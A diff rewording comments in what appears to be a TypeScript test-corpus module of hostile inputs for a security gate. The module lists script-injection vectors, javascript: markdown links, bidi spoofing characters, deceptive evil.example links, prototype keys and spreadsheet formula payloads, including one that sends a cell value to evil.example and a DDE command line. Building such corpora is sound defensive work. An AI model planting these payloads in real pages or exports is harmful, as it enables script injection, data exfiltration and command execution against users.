@@ -2,14 +2,14 @@ import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import * as z from 'zod/mini';
 
-/** One hostile text. */
+/** A hostile text. */
 export interface Payload {
   readonly text: string;
-  /** Shown alone, without a mark behind it: it means something only as the whole value. */
+  /** Used as the whole value, without a mark appended: otherwise it would have no effect. */
   readonly alone?: true;
 }
 
-/** What script would be smuggled in with. All of them call `alert`, go elsewhere or load something, which is seen. */
+/** Script injections. All of them call `alert`, navigate or load something, which is detected. */
 const vectors = [
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
@@ -32,7 +32,7 @@ const vectors = [
   '<script type="application/ld+json">{"@context":"https://schema.org"}</script>',
 ] as const;
 
-/** What a text may be inside of, and how it would get out of there. */
+/** Contexts that a text may be inserted into, and how to break out of them. */
 const schemes = [
   '',
   '">',
@@ -46,7 +46,7 @@ const schemes = [
   '`">',
 ] as const;
 
-/** Markdown that would lead somewhere else than it says, or be more than text. */
+/** Markdown whose link leads elsewhere than it shows, or that is more than text. */
 const markdown = [
   '[按這裡](javascript:alert(1))',
   '[按這裡](JaVaScRiPt&colon;alert(1))',
@@ -64,7 +64,7 @@ const markdown = [
   '*'.repeat(200) + '[('.repeat(200),
 ] as const;
 
-/** Marks that turn, hide or break what is beside them. */
+/** Characters that reorder, hide or break adjacent text. */
 const marks = [
   '\u202Etxt.exe\u202C 反向',
   '\u202Elive.elpmaxe',
@@ -78,7 +78,7 @@ const marks = [
   '﷽'.repeat(20),
 ] as const;
 
-/** What would be computed, continued or ended by the files that are made of it. */
+/** Texts that would be evaluated, or would break the syntax, in generated files. */
 const fileBreakers = [
   `=HYPERLINK("https://evil.example/?"&A1,"按這裡")`,
   `=cmd|'/c calc'!A0`,
@@ -103,7 +103,7 @@ const fileBreakers = [
   '{{title}} $t(common.error) {{- x}}',
 ] as const;
 
-/** Names that every object has. */
+/** Names of properties that every object has. */
 const names = [
   '__proto__',
   'constructor',
@@ -117,7 +117,7 @@ const names = [
 
 const huge = (length: number): string => `大${'巨'.repeat(length)}`;
 
-/** Links that a browser may open and that say something else than where they lead. */
+/** Valid links whose text suggests another target. */
 export const hostileLinks: readonly string[] = [
   'https://www.gov.tw@evil.example/',
   'https://evil.example/"><script>alert(1)</script>',
@@ -129,7 +129,7 @@ export const hostileLinks: readonly string[] = [
   'http://[::1]:1/</script>',
 ];
 
-/** What a field that takes no free text must not take. */
+/** Values that a field other than free text must reject. */
 export const refusedValues: readonly string[] = [
   'javascript:alert(1)',
   '"><img src=x onerror=alert(1)>',
@@ -141,7 +141,7 @@ export const refusedValues: readonly string[] = [
 const simple = (texts: readonly string[]): Payload[] => texts.map((text) => ({ text }));
 const alone = (texts: readonly string[]): Payload[] => texts.map((text) => ({ text, alone: true }));
 
-/** Of every kind a few, mixed: what the gate has time for. */
+/** A few of every kind, combined: what the gate has time for. */
 const few = (): Payload[] => [
   ...simple([
     `">${vectors[1]}`,
@@ -160,7 +160,7 @@ const few = (): Payload[] => [
 
 const textList = z.array(z.string());
 
-/** The texts of a JSON array, where a text may have what no file in UTF-8 contains, such as half a surrogate pair. */
+/** Returns the texts of a JSON array, which can contain what a UTF-8 file cannot, such as a lone surrogate. */
 function listed(content: string): readonly string[] | undefined {
   try {
     const parsed = textList.safeParse(JSON.parse(content));
@@ -170,7 +170,7 @@ function listed(content: string): readonly string[] | undefined {
   }
 }
 
-/** Of a folder's files: every text of a JSON array, every line of any other. */
+/** Reads the payloads in a folder: every text of a JSON array, every line of any other file. */
 function readPayloads(folder: string): Payload[] {
   return readdirSync(folder, { recursive: true, withFileTypes: true })
     .filter((entry) => entry.isFile())
@@ -181,10 +181,10 @@ function readPayloads(folder: string): Payload[] {
     });
 }
 
-/** Which of our own texts there are. */
+/** The subsets of our own texts. */
 export const ownParts = ['few', 'all', 'none'] as const;
 
-/** The hostile texts: a few of every kind, all or none of our own; those of a folder of further files behind them. */
+/** Returns the hostile texts: a few of every kind, all or none of our own, followed by those in a folder. */
 export function corpus(part: (typeof ownParts)[number], folder?: string): Payload[] {
   const own = {
     few,
